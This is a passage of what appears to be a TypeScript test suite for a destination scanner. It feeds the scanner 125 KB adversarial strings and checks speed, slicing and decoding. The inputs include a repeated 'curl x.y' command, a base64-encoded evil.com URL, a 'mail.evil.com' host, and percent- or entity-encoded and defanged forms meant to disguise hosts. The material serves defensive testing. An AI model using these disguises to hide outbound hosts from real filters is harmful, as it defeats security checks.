  it.each<[what: string, text: string]>([
    ["a long scheme", `${fill("a")}://`],
    ["colons", fill(":")],
    ["slashes", `a:${fill("/")}`],
    ["schemes without a body", fill('https://"')],
    ["schemes in one body", `xx://${fill("b:c,dd://")}`],
    ["numbers and dots", fill("1.")],
    ["digits", fill("1")],
    ["bad addresses", fill("1.1.1.1.1 ")],
    ["data", fill("data:")],
    ["links in Markdown", fill("[https://a](https://b)")],
    ["brackets in a user", `https://a${fill("](@b")}`],
    ["a long media type", `data:${fill("a")}`],
    ["mailto", fill("mailto:. ")],
    ["closing brackets", `https://${fill(")")}`],
    ["trailing punctuation", `https://x${fill("!.")}`],
    ["backslashes", fill("\\")],
    ["escapes of escapes", fill("\\u005cu005c")],
    ["depth", fill("[")],
    ["breaks", `https${fill("\n")}://x`],
    ["breaks and colons", fill("s\n:")],
    ["broken schemes", fill("https:\n/")],
    ["broken schemes of any name", fill("'a\n:\t//a.")],
    ["hosts without slashes", `https:${fill("a.")}`],
    ["colons and letters", fill("http:a")],
    ["brackets", fill("[1:")],
    ["lists of numbers", `[${fill('"1.2.3.4",')}]`],
    ["split hosts", fill("https://a'b.c")],
    ["users", `https://a'${fill("@b'")}`],
    ["users and hosts", fill("https:a.com '@b.com ")],
    ["quotes", fill("https:'")],
    ["users in quotes", fill("'https: @b ")],
    ["quoted schemes", fill("'s'://")],
    ["mailboxes", fill("a@b.com ")],
    ["commands", fill("curl x.y ")],
    ["colons in words", fill("a:b.c")],
    ["one word", fill("a.b")],
    ["marks", fill("a\u0301\u0323.")],
    ["other digits", fill("١.")],
    ["defanged", fill("[.]")],
    ["empty quotes", fill("a''")],
    ["shares", fill("\\\\\\\\a\\\\b ")],
    ["base64 of base64", btoa(btoa(fill("https://a ").slice(0, size / 2))).slice(0, size)],
    ["zeroes", fill("0")],
    ["hex", fill("3a")],
    ["addresses in quotes", fill('"::1" ')],
    ["different addresses", Array.from({ length: size / 16 }, (_, at) => `xx://${at}`.padEnd(15)).join(" ")],
    ["percent signs", fill("%25")],
    ["percent signs of percent signs", `%${fill("25")}`],
    ["entities", fill("&amp;#38;")],
    ["base64", fill("aHR0cHM6Ly9h")],
    ["short base64", fill("aHR0cHM6Ly9ldmlsLmNvbS9hYmM= ")],
    ["host names", fill("a.com ")],
    ["dots", fill("a.b-")],
    ["prose", fill("The fox, e.g. 1.2.3, jumps: over. ")]
  ])("125 KB of %s end in time, and are scanned in slices", (_, text) => {
    const slices: Array<number> = []
    const time = processorTime(() => {
      slices.push(
        slicesOf(collectArguments(text, "spec", makeCollector())),
        slicesOf(collectValue([text], "spec", makeCollector())),
        slicesOf(collectArguments(text, "strict", makeCollector()))
      )
    })
    assert.isBelow(time, 875)
    assert.isAtLeast(Math.min(...slices), text.length / (farthest + sliceCharacters))
  })

  it("many values, and values inside each other, are read in slices", () => {
    const many: unknown = Array.from({ length: 100_000 }, (_, at) => ({ at }))
    const deep = Array.from({ length: 100_000 }).reduce<unknown>((inner) => [inner], "https://a.example")
    for (const value of [many, deep]) {
      assert.isAtLeast(slicesOf(collectValue(value, "spec", makeCollector())), 100_000 / sliceValues)
    }
    assert.deepStrictEqual(scanValue(deep), ["https://a.example"])
  })

  it("a host that stands where a slice ends is found whole", () => {
    for (let start = sliceCharacters - 25; start < sliceCharacters; start++) {
      const text = `${" ".repeat(start)}mail.evil.com ${"x ".repeat(1000)}`
      assert.deepStrictEqual(scan.scanArguments(text, "strict").destinations, ["mail.evil.com"])
    }
  })

  it("every step of the strict scan is done in slices", () => {
    const count = 20
    const [escapes = "", run = ""] = ["%41", "-"].map((unit) => unit.repeat(count * sliceCharacters))
    assert.isAtLeast(slicesOf(undisguise(escapes)), 3 * count)
    // Its characters are read once, and again in parts.
    assert.isAtLeast(slicesOf(hiddenInBase64(run, () => assert.fail("no text"))), 2 * count - 1)
  })

  it("what is undone in slices is what is undone at once", () => {
    for (const shift of [0, 1, 2, 3, 4, 5, 6, 7, 8, 9]) {
      const text = `${"x".repeat(shift)}${"&#58;%2f%252F&amp;#x2f;\uff0f".repeat(2_000)}`
      assert.strictEqual(runNow(undisguise(text)), `${"x".repeat(shift)}${":////".repeat(2_000)}`)
    }
  })
})
